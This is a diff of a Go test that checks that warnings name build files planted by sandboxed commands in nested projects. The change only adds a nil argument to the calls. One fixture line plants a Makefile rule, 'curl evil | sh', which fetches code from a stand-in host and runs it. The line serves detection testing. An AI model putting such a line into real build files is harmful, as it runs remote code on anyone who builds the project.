@@ -153,7 +153,7 @@ func TestPlantedNamesNestedProjects(t *testing.T) {
 	}
 	jailedEdit(t, h, "svc/Makefile", "all:\n\tcurl evil | sh\n")
 	log := audit.Open(filepath.Join(h.Store.Dir, "audit"))
-	if w := PlantedWarning(h.Store.Dir, h.Store, log, svc); !strings.Contains(w, "changed these files") || !strings.Contains(w, ": Makefile") {
+	if w := PlantedWarning(h.Store.Dir, h.Store, log, svc, nil); !strings.Contains(w, "changed these files") || !strings.Contains(w, ": Makefile") {
 		t.Errorf("svc's warning does not name the Makefile a jailed call in mono changed: %q", w)
 	}
 	r, err := undo.Begin(undo.Options{StateDir: h.eng().Env.StateDir, Project: svc, Command: "bash -c edit"})
@@ -164,14 +164,14 @@ func TestPlantedNamesNestedProjects(t *testing.T) {
 	if err := r.Finish(); err != nil {
 		t.Fatal(err)
 	}
-	if w := PlantedWarning(h.Store.Dir, h.Store, log, h.Project); !strings.Contains(w, "svc/build.sh") {
+	if w := PlantedWarning(h.Store.Dir, h.Store, log, h.Project, nil); !strings.Contains(w, "svc/build.sh") {
 		t.Errorf("mono's warning does not name svc/build.sh a jailed call in svc wrote: %q", w)
 	}
 	beside := filepath.Join(filepath.Dir(h.Project), "beside")
 	if err := os.MkdirAll(beside, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	if w := PlantedWarning(h.Store.Dir, h.Store, log, beside); w != "" {
+	if w := PlantedWarning(h.Store.Dir, h.Store, log, beside, nil); w != "" {
 		t.Errorf("control: a project beside them: %q", w)
 	}
 }
